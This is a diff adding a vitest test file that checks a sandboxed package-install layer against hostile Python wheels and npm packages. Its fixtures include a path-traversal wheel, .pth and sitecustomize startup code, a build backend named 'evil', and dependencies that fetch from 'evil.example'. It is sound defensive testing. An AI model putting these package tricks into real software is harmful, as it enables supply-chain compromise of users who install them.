@@ -1,0 +1,156 @@
+import { chmod, readdir, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { openSandbox } from '@repertoire/sandbox'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { createSandboxLink } from '../scripts/sandbox-link.ts'
+import { whatInstallingLacks } from '../testing/installing.ts'
+import { wheelOf, zipOf } from '../testing/package-archives.ts'
+import {
+  createLayerScene,
+  greetJs,
+  greetPy,
+  type LayerScene,
+  problemOf,
+  sayPy,
+} from './testing/layer-scene.ts'
+
+const sandbox = await openSandbox({ concurrency: 2 })
+const lacking = await whatInstallingLacks(sandbox)
+const settings = {
+  ...({ backend: 'auto', executorUrl: undefined, executorToken: undefined } as const),
+  ...{ concurrency: undefined, timeoutSeconds: 60 },
+}
+const link = createSandboxLink(settings, async () => sandbox)
+afterAll(() => sandbox.close(0))
+
+/** Python that tells that it was run: by printing, and in the layer when that is being made. */
+const tellsThatItRan = `import os, sys
+print("RAN", flush=True)
+if os.path.isdir("/workspace/layer"):
+    open("/workspace/layer/ran", "w").close()
+`
+
+function addHostile({ python, node }: LayerScene): void {
+  const wheel = (making: Parameters<typeof wheelOf>[0]) => {
+    const { file, bytes } = wheelOf(making)
+    python.add(making.name, file, bytes)
+  }
+  wheel({ name: 'escapes', files: { '../../../workspace/escaped.py': 'x = 1\n', 'in.py': '' } })
+  wheel({
+    name: 'starts',
+    files: {
+      'starts.pth': `import os; os.write(1, b"PTH RAN")\n`,
+      'sitecustomize.py': tellsThatItRan,
+      'starts.py': 'x = 1\n',
+    },
+  })
+  wheel({
+    name: 'leads-out',
+    files: { 'leads.py': '' },
+    metadata: [
+      `Requires-Dist: builds @ ${python.url.replace('/simple/', '')}/files/builds/builds-1.0.zip`,
+    ],
+  })
+  // Needs nothing to be built but to be started.
+  const source = zipOf({
+    'builds-1.0/pyproject.toml':
+      '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
+    'builds-1.0/evil.py': `${tellsThatItRan}raise SystemExit(1)\n`,
+  })
+  python.add('builds', 'builds-1.0.zip', source)
+  wheel({
+    name: 'calls-home',
+    files: { 'calls.py': '' },
+    metadata: ['Requires-Dist: evil @ http://evil.example/evil-1.0-py3-none-any.whl'],
+  })
+  node.add('leads-out-js', '1.0.0', {
+    manifest: { dependencies: { evil: 'git+https://evil.example/evil.git' } },
+    files: { 'index.js': '' },
+  })
+  node.add('calls-home-js', '1.0.0', {
+    manifest: { dependencies: { evil: 'http://evil.example/evil.tgz' } },
+    files: { 'index.js': '' },
+  })
+}
+
+describe.skipIf(lacking !== null)('hostile packages of scripts', { timeout: 120_000 }, () => {
+  let scene: LayerScene
+  beforeAll(async () => {
+    scene = await createLayerScene(sandbox, link)
+    addHostile(scene)
+  })
+  afterAll(() => scene?.close())
+
+  it('C10: a wheel that writes beside its folder leaves nothing anywhere', async () => {
+    const layers = scene.open('escapes')
+    const problem = await problemOf(scene.run(layers, { 'requirements.txt': 'escapes' }, ''))
+    expect(problem.code).toBe('layer.install-failed')
+    expect(await readdir(join(scene.folder, 'escapes')).catch(() => [])).toEqual([])
+  })
+
+  it('C10: what a wheel would start by itself starts in no installation', async () => {
+    const layers = scene.open('starts')
+    const needed = { 'requirements.txt': 'starts' }
+    const result = await scene.run(layers, needed, 'import starts\nprint(starts.x)')
+    const [layer] = result.given.layers
+    expect(await readdir(layer?.hostPath ?? '')).not.toContain('ran')
+    // In the script's own sandbox its packages may do what the script may; .pth files are not read.
+    expect(result.stdout).toContain('RAN\n')
+    expect(result.stdout).not.toContain('PTH RAN')
+    expect(result.stdout).toMatch(/1\n$/)
+  })
+
+  it('C10: a source package that a wheel asks for by address is not built', async () => {
+    const layers = scene.open('leads-out')
+    const problem = await problemOf(scene.run(layers, { 'requirements.txt': 'leads-out' }, ''))
+    expect(problem).toMatchObject({
+      code: 'layer.install-failed',
+      message: expect.stringContaining('nothing may be started while packages are installed'),
+    })
+  })
+
+  it('C10: an installation reaches no other host, whatever a package names', async () => {
+    const layers = scene.open('calls-home')
+    for (const [needed, entry] of [
+      [{ 'requirements.txt': 'calls-home' }, 'main.py'],
+      [{ 'package.json': '{"dependencies":{"calls-home-js":"1"}}' }, 'main.mjs'],
+    ] as const) {
+      expect(await problemOf(scene.run(layers, needed, '', { entry }))).toMatchObject({
+        code: 'layer.host-refused',
+        message: expect.stringContaining('evil.example:80'),
+      })
+    }
+  })
+
+  it('C10: a repository that a package asks for is not fetched', async () => {
+    const needed = { 'package.json': '{"dependencies":{"leads-out-js":"1"}}' }
+    const problem = await problemOf(scene.run(scene.open('git'), needed, '', { entry: 'main.mjs' }))
+    expect(problem.code).toMatch(/^layer\./)
+  })
+
+  it('C10: install scripts do not run', async () => {
+    const result = await scene.run(scene.open('node'), greetJs, 'console.log(1)', {
+      entry: 'main.mjs',
+    })
+    const [layer] = result.given.layers
+    expect((await readdir(layer?.hostPath ?? '')).sort()).toEqual(['greet-js', 'other-js'])
+  })
+
+  it('C10: a layer that was changed on disk is not used, but made again', async () => {
+    const layers = scene.open('tampered')
+    const { given } = await scene.run(layers, greetPy, sayPy)
+    const file = join(given.layers[0]?.hostPath ?? '', 'other.py')
+    await chmod(file, 0o644)
+    await writeFile(file, 'who = "somebody else"\n')
+    const { stdout, told } = await scene.run(layers, greetPy, sayPy)
+    expect({ stdout, told }).toEqual({
+      stdout: 'hello from a wheel\n',
+      told: ['greet'],
+    })
+    const again = await scene.run(layers, greetPy, sayPy)
+    const at = join(again.given.layers[0]?.hostPath ?? '', 'greet')
+    await chmod(at, 0o755)
+    await writeFile(join(at, 'more.py'), '')
+    expect((await scene.run(scene.open('tampered'), greetPy, sayPy)).told).toHaveLength(1)
+  })
+})
